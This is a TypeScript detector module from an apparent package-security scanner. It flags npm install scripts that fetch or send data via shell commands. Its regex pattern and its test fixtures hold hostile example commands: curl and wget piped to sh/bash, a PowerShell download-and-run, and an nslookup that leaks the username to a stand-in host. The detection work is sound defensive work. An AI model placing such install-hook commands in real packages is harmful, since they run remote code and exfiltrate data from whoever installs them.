import { readCommand } from "../behaviour/commands.ts";
import type { Detector } from "../detector.ts";
import { installHooks, lineOf } from "./_npm.ts";

/** Something is done with what was fetched: piped on, made executable, started. */
const RUNS =
  /\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:(?:ba|z|da)?sh|node|python3?|perl|iex|invoke-expression)\b|(?:&&|;)[ \t]{0,4}(?:chmod|(?:ba|z)?sh|node|python3?|start|\.\/|\/tmp\/)|start-process|iex\b|invoke-expression|mshta/i;

export const installHookFetches: Detector = {
  id: "install-hook-fetches",
  title: "An install script fetches or sends something with a shell command",
  severity: "critical",
  ecosystems: ["npm"],
  points: 6.5,
  class: "threat",
  group: "install-hook",
  why: `A \`preinstall\`, \`install\` or \`postinstall\` script in package.json calls curl, wget, PowerShell or a name server directly. What it
fetches is not in the release and can change at any moment; what it sends leaves before anybody has used the package.

Packages that need a native program fetch it with a script of their own, which checks what it gets. A command that only fetches
counts for less than one that also runs what it fetched.`,
  *detect(tree) {
    for (const { path, name, command } of installHooks(tree)) {
      const { fetches, sends } = readCommand(command);
      if (!fetches && !sends) continue;
      const share = sends || RUNS.test(command) ? 1 : 0.65;
      const says = `${name} runs \`${command.slice(0, 200)}\``;
      yield { path, line: lineOf(tree, path, command), says, phase: "install", share };
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"curl -s http://example.invalid/x | sh"}}` },
      },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"preinstall":"nslookup $(whoami).example.invalid"}}` },
      },
    ],
    passes: [
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"install":"node-gyp rebuild"}}` } },
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"postinstall":"node install.js","test":"curl x"}}` } },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"opencollective-postinstall || exit 0"}}` },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"install":"powershell -c iwr http://example.invalid/x -OutFile x.exe; start x.exe"}}`,
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"bundleDependencies":["a"]}`,
          "node_modules/a/package.json": `{"scripts":{"postinstall":"wget -qO- http://example.invalid | bash"}}`,
        },
      },
    ],
  },
};
